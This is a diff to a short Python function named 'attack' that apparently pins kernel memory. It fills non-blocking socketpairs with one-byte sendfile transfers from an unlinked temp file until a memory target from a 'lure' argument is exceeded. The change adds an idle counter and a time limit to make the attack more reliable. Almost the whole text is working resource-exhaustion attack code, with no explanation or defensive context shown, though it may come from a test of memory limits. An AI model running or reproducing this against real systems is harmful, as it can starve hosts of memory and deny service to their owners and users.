@@ -4,20 +4,25 @@
 # cell: small
 import os
 import socket
+import time
 def attack(lure):
     file = os.open("/tmp/pages", os.O_RDWR | os.O_CREAT, 0o600)
     os.unlink("/tmp/pages")
-    kept, pages = [], 0
+    kept, pages, idle, end = [], 0, 0, time.monotonic() + 8
     while pages << 12 < lure["memory"] + (64 << 20):
         kept.extend(socket.socketpair())
-        for end in kept[-2:]:
-            end.setblocking(False)
+        before = pages
+        for one in kept[-2:]:
+            one.setblocking(False)
             os.truncate(file, 0)
             os.pwrite(file, bytes(1 << 20), 0)
             try:
                 for page in range(256):
-                    os.sendfile(end.fileno(), file, 4096 * page, 1)
+                    os.sendfile(one.fileno(), file, 4096 * page, 1)
                     pages += 1
             except BlockingIOError:
                 pass
+        idle = 0 if pages > before else idle + 1
+        if idle == 16 or time.monotonic() > end:
+            raise TimeoutError(f"no more than {pages} pages")
     return f"{pages} pages wait in sockets"
